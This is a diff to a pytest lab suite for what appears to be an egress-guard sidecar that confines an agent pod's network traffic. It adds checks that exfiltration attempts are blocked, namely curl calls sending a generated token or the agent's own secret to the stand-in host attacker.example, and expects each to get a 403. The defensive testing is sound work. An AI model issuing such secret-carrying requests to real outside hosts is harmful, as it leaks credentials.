@@ -8,6 +8,7 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import secrets
 import signal
 import subprocess
 import sys
@@ -32,13 +33,19 @@ from tests.pure.serve.test_proxy_agents import ISSUER, claims, jwks, jwt
 pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]
 
 PROGRAM = [sys.executable, "-m", "interceptor.cli.main"]
+OWN = secrets.token_hex(16)
+"""The agent's own secret, of no format that a rule knows."""
 ATTEMPTS = str(Path(__file__).with_name("attempts.py"))
 HOME = "/run/pod"
 POD = """\
 apiVersion: v1
 kind: Pod
 metadata: {name: agent, namespace: work}
-spec: {containers: [{name: main, image: "example.com/agent:1"}]}
+spec:
+  containers:
+  - name: main
+    image: example.com/agent:1
+    env: [{name: ACME_TOKEN, valueFrom: {secretKeyRef: {name: keys, key: acme}}}]
 """
 SHOW = ["nft", "list", "table", "inet", "egressguard_pod"]
 
@@ -68,12 +75,23 @@ def spec(form: str, **more: Any) -> list[dict[str, Any]]:
 
 def container(objects: list[dict[str, Any]], name: str) -> tuple[list[str], dict[str, Any]]:
     """Arguments, with the lab's paths in place of a container's, and the security context."""
+    made = _named(objects, name)
+    return [_placed(word) for word in made["args"]], made["securityContext"]
+
+
+def environment(objects: list[dict[str, Any]], name: str) -> dict[str, str]:
+    """Variables of a container, as the kubelet resolves them, and what a checkout needs."""
+    entries = _named(objects, name).get("env", ())
+    return {each["name"]: each.get("value", OWN) for each in entries} | JAIL_ENVIRONMENT
+
+
+def _named(objects: list[dict[str, Any]], name: str) -> dict[str, Any]:
     pods = [each.get("spec", {}).get("template", each) for each in objects]
     for each in pods:
         inner = each.get("spec", {})
         for made in [*inner.get("initContainers", ()), *inner.get("containers", ())]:
             if made["name"] == name:
-                return [_placed(word) for word in made["args"]], made["securityContext"]
+                return dict(made)
     raise AssertionError(name)
 
 
@@ -141,8 +159,7 @@ def sidecar(lab: Lab) -> Iterator[subprocess.Popen[bytes]]:
     certificate = lab.path(f"{HOME}/trust/ca.crt")
     certificate.unlink(missing_ok=True)
     argv = [*confined(context), *PROGRAM, *words]
-    environment = {**JAIL_ENVIRONMENT, "XDG_CACHE_HOME": "/var/cache"}
-    with lab.popen(argv, env=environment) as program:
+    with lab.popen(argv, env=environment(objects, "egressguard")) as program:
         try:
             _await(program, certificate.exists)
             yield program
@@ -171,6 +188,8 @@ def test_the_pod_has_one_way_out(pod: Lab) -> None:
     lab.clear()
     free = attempt(lab)
     assert free[f"tcp {ATTACKER[0]} 443"] == free[f"udp {ATTACKER[1]} 50000"] == "sent", free
+    for link in ("STREAM 443", "DGRAM 50000"):
+        assert free[f"by link SOCK_{link}"] == "sent", free
     assert {(each.protocol, each.family) for each in lab.oracle.records()} >= {
         ("tcp", 4), ("tcp", 6), ("udp", 4), ("udp", 6)
     }  # fmt: skip
@@ -188,7 +207,7 @@ def test_the_pod_has_one_way_out(pod: Lab) -> None:
     # Before there is a sidecar: nothing, and at once.
     lab.clear()
     before = attempt(lab)
-    assert "timeout" not in before.values(), before
+    assert not _slow(before), before
     assert lab.oracle.records() == []
     assert lab.dns_log() == []
 
@@ -200,10 +219,13 @@ def test_the_pod_has_one_way_out(pod: Lab) -> None:
         secret = example(["gh", "p_", "{alnum:30}", "{crc32:6}"], "pod").decode()
         status, content = curl(lab, "https://attacker.example/up", "-d", f"text={secret}")
         assert (status, json.loads(content)["reason"]) == (403, "secret")
+        # The agent's own, of which the sidecar has heard by its Secret.
+        status, content = curl(lab, f"https://attacker.example/?d={OWN}")
+        assert (status, json.loads(content)["reason"]) == (403, "secret")
         status, content = curl(lab, "http://lan.inward.example/")
         assert (status, json.loads(content)["reason"]) == (403, "address_private")
         held = attempt(lab)
-        assert "timeout" not in held.values(), held
+        assert not _slow(held), held
         assert held["ping"] != "sent"
         assert all(held[f"udp {address} 443"] != "sent" for address in ATTACKER)
         records = [each for each in lab.oracle.records() if b"marker" in each.data]
@@ -234,7 +256,8 @@ def test_the_pod_has_one_way_out(pod: Lab) -> None:
     events = lab.evidence(f"{HOME}/authority/evidence.jsonl")
     assert (events[0]["event"], events[-1]["event"]) == ("started", "stopped")
     assert {each["jail"] for each in events} == {"agent"}
-    assert secret not in json.dumps(events)
+    assert events[0]["secrets"] == ["ACME_TOKEN"]
+    assert not any(each in json.dumps(events) for each in (secret, OWN))
 
     # Without it: refused, and silent.
     lab.clear()
@@ -251,6 +274,11 @@ def test_the_pod_has_one_way_out(pod: Lab) -> None:
 
 
 _CONTEXT = {"capabilities": {"drop": ["ALL"]}, "allowPrivilegeEscalation": False}
+
+
+def _slow(found: dict[str, str]) -> list[str]:
+    """What was not refused at once; a socket bound to a link is let down by its routing."""
+    return [name for name, came in found.items() if came == "timeout" and "by link" not in name]
 
 
 def _worker(lab: Lab) -> int:
@@ -281,12 +309,12 @@ def test_who_may_connect_to_the_pod(pod: Lab) -> None:
             assert done.returncode == 0, done.stderr
             came = lab.run([*probe, f"http://{HOST_V4}:9000/"], where="internet")
             assert came.returncode == expected, came.stderr
-            # And the agent that answers still has no way of its own.
-            lab.clear()
-            attempt(lab)
-            assert lab.oracle.records() == []
             # Itself it reaches.
             assert as_agent(lab, *probe, f"http://{HOST_V4}:9000/").returncode == 0
+        # And the agent that answers still has no way of its own.
+        lab.clear()
+        attempt(lab)
+        assert lab.oracle.records() == []
         server.kill()
 
 
@@ -316,23 +344,22 @@ def test_the_arguments_of_the_companion_form(clean_lab: Lab) -> None:
     (folder / "token").write_bytes(jwt(body))
     for path in (folder, *folder.iterdir()):
         os.chown(path, PROXY_UID, PROXY_UID)
-    environment = {**JAIL_ENVIRONMENT, "XDG_CACHE_HOME": "/var/cache"}
     with contextlib.ExitStack() as stack:
         for name in ("proxy", "egressguard-bridge"):
             words, context = container(objects, name)
             program = stack.enter_context(
-                lab.popen([*confined(context), *PROGRAM, *words], env=environment)
+                lab.popen([*confined(context), *PROGRAM, *words], env=environment(objects, name))
             )
             stack.callback(program.kill)
             port = "8888" if name == "proxy" else "18888"
             probe = ["curl", "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}/"]
             _await(program, lambda probe=probe: lab.run(probe, user="dev").returncode == 0)
-        agent = {
-            each["name"]: each["value"] for each in objects[-1]["spec"]["containers"][0]["env"]
-        }
+        agent = environment(objects, "main")
         led = ("-x", agent["HTTPS_PROXY"])
         ca = f"{HOME}/ca/ca.crt"
         assert curl(lab, *led, "https://example.com/get", ca=ca)[0] == 200
+        status, content = curl(lab, *led, f"https://attacker.example/?d={OWN}", ca=ca)
+        assert (status, json.loads(content)["reason"]) == (403, "secret")
         assert curl(lab, "-x", f"http://{HOST_V4}:8888", "http://example.com/", ca=ca)[0] == 407
         for wrong in ({"aud": ["other"]}, {"sub": "system:serviceaccount:work:default"}):
             (folder / "token").write_bytes(jwt(body | wrong))
